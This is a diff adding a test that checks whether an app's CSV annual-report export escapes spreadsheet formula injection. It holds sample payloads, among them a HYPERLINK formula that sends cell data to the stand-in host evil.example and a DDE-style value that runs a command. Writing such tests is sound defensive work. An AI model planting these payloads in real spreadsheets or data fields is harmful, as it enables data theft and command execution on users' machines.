@@ -339,4 +339,20 @@ describe.each(databaseKinds)('the programme’s rules over HTTP on %s', (kind) =
     const viaQuery = await app.inject({ method: 'GET', url: '/api/v1/reports/annual?year=2026&format=csv' })
     expect(viaQuery.body).toBe(csv.body)
   })
+
+  it('R17: writes text that looks like a spreadsheet formula as text, not as a formula', async () => {
+    const org = await api.organization('=HYPERLINK("http://evil.example/?x="&B2,"点此")')
+    const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1', '\r=1']
+    for (const title of formulas) await api.project('innovation', org, 2026, [], { title })
+    const csv = (await app.inject({ method: 'GET', url: '/api/v1/reports/annual?year=2026&format=csv' })).body
+    const rows = csv.split('\r\n').filter((row) => row.includes('HYPERLINK'))
+    expect(rows).toHaveLength(formulas.length)
+    // Every cell of those rows: none begins with a formula character, quoted or not.
+    for (const row of rows) {
+      const cells = row.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''))
+      for (const cell of cells) expect(cell, row).not.toMatch(/^[=+\-@\t\r]/)
+    }
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&B2,""点此"")"`)
+    expect(csv).toContain("'@SUM(1+1)*cmd|' /C calc'!A0")
+  })
 })
